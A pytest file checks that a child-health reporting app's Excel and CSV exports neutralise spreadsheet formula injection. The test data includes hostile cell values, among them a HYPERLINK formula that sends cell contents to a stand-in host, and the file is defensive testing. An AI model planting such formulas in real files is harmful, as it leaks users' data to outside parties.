"""Every .xlsx and .csv Asuh writes keeps hostile text inert: names stored directly in the
database (bypassing the form rules, as an old record or a synced file might) never become a
formula, and characters an .xlsx cannot hold do not crash the writer."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from desktop_app.core.database import Database
from desktop_app.db.models import Child, Desa, Kecamatan, Opd, Posyandu
from desktop_app.export.raw import export_raw_tables
from desktop_app.growth.batch import run_batch
from desktop_app.importing.plan import ImportResult, RowResult, write_error_report
from desktop_app.importing.templates import write_template
from desktop_app.reports.monthly_data import build_monthly_summary
from desktop_app.reports.xlsx import monthly_summary_xlsx
from tests.reports.builders import MONTH, TODAY, build_known_district

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+1", "-1", "@SUM(A1)", "=1+1 Desa",
           "Budi\x07Santoso", "Ani\u202eSari"]  # fmt: skip
#: What a cell shows for each: the BEL an .xlsx cannot hold becomes U+FFFD, the rest is kept.
SHOWN = [text.replace("\x07", "\ufffd") for text in HOSTILE]


def _no_formula_and_shown_inert(data: bytes) -> set[str]:
    """Assert no ``<f>`` in any sheet of the workbook and return the texts shown whose cell
    carries the quote prefix (formula-like) or not (others)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    book = load_workbook(io.BytesIO(data))
    shown = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in SHOWN:
                    assert cell.data_type == "s"
                    assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@"))
                    shown.add(cell.value)
    return shown


@pytest.fixture
def hostile_district(database: Database) -> Database:
    with database.sessions() as session:
        build_known_district(session)
        for model in (Kecamatan, Desa, Posyandu, Opd, Child):
            live = select(model.id).where(model.deleted_at.is_(None)).order_by(model.id)
            for index, row_id in enumerate(session.scalars(live).all()):
                hostile = HOSTILE[index % len(HOSTILE)]
                session.execute(update(model).where(model.id == row_id).values(name=hostile))
        session.commit()
    return database


def test_monthly_excel_report_writes_no_formula(hostile_district: Database) -> None:
    with hostile_district.sessions() as session:
        data = build_monthly_summary(session, month=MONTH, today=TODAY)
    shown = _no_formula_and_shown_inert(monthly_summary_xlsx(data))
    assert {SHOWN[0], "+1"} <= shown  # a child in "Perlu perhatian", a desa in "Wilayah"


def test_raw_export_writes_no_formula(hostile_district: Database, tmp_path: Path) -> None:
    with hostile_district.sessions() as session:
        result = export_raw_tables(session, folder=tmp_path)
    assert _no_formula_and_shown_inert(result.path.read_bytes()) == set(SHOWN)


def _report(path: Path) -> None:
    rows = tuple(RowResult(i + 2, "rejected", (text,), text) for i, text in enumerate(HOSTILE))
    result = ImportResult("children", "x.csv", 0, len(rows), (), rows, False, False, False, 1)
    write_error_report(result, path)


def test_import_error_report_writes_no_formula(tmp_path: Path) -> None:
    _report(tmp_path / "laporan.xlsx")
    assert _no_formula_and_shown_inert((tmp_path / "laporan.xlsx").read_bytes()) == set(SHOWN)
    _report(tmp_path / "laporan.csv")
    with open(tmp_path / "laporan.csv", encoding="utf-8-sig", newline="") as handle:
        names = [row[2] for row in csv.reader(handle, delimiter=";")][1:]
    assert names == ["'" + t if t[0] in "=+-@" else t for t in SHOWN]


@pytest.mark.parametrize("kind", ["children", "guardians", "visits"])
def test_import_template_writes_no_formula(kind: str, tmp_path: Path) -> None:
    write_template(kind, tmp_path / "t.xlsx")
    _no_formula_and_shown_inert((tmp_path / "t.xlsx").read_bytes())


def test_zscore_batch_echoes_hostile_cells_inert(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("nama;sex;age_days;weight\n=1+1;1;400;8,5\n", encoding="utf-8")
    run_batch(source, tmp_path / "out.csv")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[1][0] == "'=1+1"


def test_monthly_workbook_payment_sheet_writes_no_formula(hostile_district: Database) -> None:
    """Child names on the per-child aid sheet, and a hostile transfer reference, stay text."""
    from desktop_app.core.month import Month
    from desktop_app.db.models import AidPayment
    from desktop_app.reports.service import ReportKind, build_report

    with hostile_district.sessions() as session:
        session.execute(update(AidPayment).values(reference="=1+1 Desa", received_by="+1"))
        report = build_report(session, kind=ReportKind.MONTHLY_XLSX, month=Month.of(MONTH),
                              today=TODAY)  # fmt: skip
        session.commit()
    shown = _no_formula_and_shown_inert(report.content)
    assert {"=1+1 Desa", "+1"} <= shown
    book = load_workbook(io.BytesIO(report.content))
    sheet = book["Bantuan per anak"]
    references = [row[7].value for row in sheet.iter_rows(min_row=2) if row[4].value]
    assert references and set(references) == {"=1+1 Desa"}
    assert all(row[7].quotePrefix for row in sheet.iter_rows(min_row=2) if row[4].value)
